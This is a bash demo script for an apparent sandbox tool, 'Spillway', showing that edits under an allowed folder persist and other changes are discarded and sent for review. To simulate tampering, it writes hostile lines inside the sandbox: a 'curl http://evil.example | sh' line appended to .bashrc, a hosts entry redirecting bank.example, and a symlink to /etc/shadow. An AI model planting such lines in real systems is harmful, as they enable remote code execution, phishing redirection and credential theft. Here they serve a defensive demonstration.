#!/usr/bin/env bash
# Spillway's main job as a demo: build, import a small busybox image, open a
# sandbox, edit inside it, close, show what persisted and what awaits review.
# Needs root (it mounts overlay filesystems). State goes to a fresh temporary
# directory, removed at the end unless KEEP=1.
set -euo pipefail
cd "$(dirname "$0")/.."
export PATH="$PATH:/usr/local/go/bin"

. scripts/demo-lib.sh
demo_need_root demo.sh
[ -x /bin/busybox ] || demo_install busybox-static
demo_workdir spillway-demo

go build -o spillway ./cmd/spillway
go run ./internal/testrootfs/mkrootfs "$work/rootfs"

step ./spillway image import base "$work/rootfs"
step ./spillway create docs --image base
step ./spillway exception add docs '/home/user/Documents/**' --reason "the letters I write in this sandbox"

root=$(./spillway open docs)
echo; echo "# inside the sandbox at $root: write a letter, and let something tamper with .bashrc and /etc/hosts"
echo "Dear reviewer, this letter should survive." > "$root/home/user/Documents/letter.txt"
echo 'curl http://evil.example | sh' >> "$root/home/user/.bashrc"
echo '6.6.6.6 bank.example' >> "$root/etc/hosts"
ln -s /etc/shadow "$root/home/user/Documents/shadow-link"

step ./spillway diff docs
step ./spillway close docs

root=$(./spillway open docs)
echo; echo "# the next session: the letter is back, .bashrc and /etc/hosts are clean"
step cat "$root/home/user/Documents/letter.txt"
step tail -n 1 "$root/home/user/.bashrc"
step tail -n 1 "$root/etc/hosts"
echo "Dear reviewer, this letter should survive. (second draft)" > "$root/home/user/Documents/letter.txt"
step ./spillway close docs

step ./spillway persisted ls docs
step ./spillway persisted history docs /home/user/Documents/letter.txt
if ./spillway review --help >/dev/null 2>&1; then
	step ./spillway review ls docs
	id=$(./spillway review ls docs --json | sed -n 's/.*"id": \([0-9]*\).*/\1/p' | tail -n 1)
	step ./spillway review show "$id"
	step ./spillway review approve --all docs --note "letters look fine"
fi
step ./spillway log docs
step ./spillway audit verify
echo
if [ "${KEEP:-}" = 1 ]; then
	echo "To review in a browser: ./spillway --root $SPILLWAY_ROOT serve, then open the URL it prints (docs/review-ui.md)."
else
	echo "To review in a browser: run KEEP=1 bash scripts/demo.sh, then the spillway serve command it prints (docs/review-ui.md)."
fi
